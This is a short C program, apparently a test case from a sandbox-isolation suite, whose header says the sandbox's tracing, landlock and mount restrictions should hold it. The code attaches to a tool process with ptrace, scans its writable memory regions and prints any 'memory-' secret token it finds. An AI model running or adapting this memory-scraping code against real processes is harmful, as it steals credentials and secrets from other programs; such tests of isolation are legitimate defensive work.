// goal: attach to the tool as a debugger does, and read its memory word by word
// success: prints TOKEN
// held_by: calls:tracing + own_uid + read_only_mounts + landlock_files + landlock_network + landlock_scope
// limits: wall=15 cpu=15
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static char *text;

static long tool(void) {
    static char json[8192];
    FILE *file = fopen("target.json", "r");
    json[fread(json, 1, sizeof json - 1, file)] = 0;
    return atol(strstr(json, "\"tool\": ") + 8);
}

static int search(long pid, unsigned long start, unsigned long end) {
    unsigned long size = end - start, at;
    if (size > 4 << 20) return 0;
    text = realloc(text, size);
    for (at = 0; at < size; at += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, pid, start + at, 0);
        if (errno) return 0;
        memcpy(text + at, &word, sizeof word);
    }
    for (at = 0; at + 32 < size; at++)
        if (!memcmp(text + at, "memory-", 7) && strspn(text + at + 7, "0123456789abcdef") >= 24) {
            printf("%.31s\n", text + at);
            return 1;
        }
    return 0;
}

int main(void) {
    long pid = tool();
    char path[64], line[512];
    unsigned long start, end;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0)) {
        perror("attach");
        return 1;
    }
    waitpid(pid, 0, 0);
    snprintf(path, sizeof path, "/proc/%ld/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, " rw-p ") && sscanf(line, "%lx-%lx", &start, &end) == 2 && search(pid, start, end)) break;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}
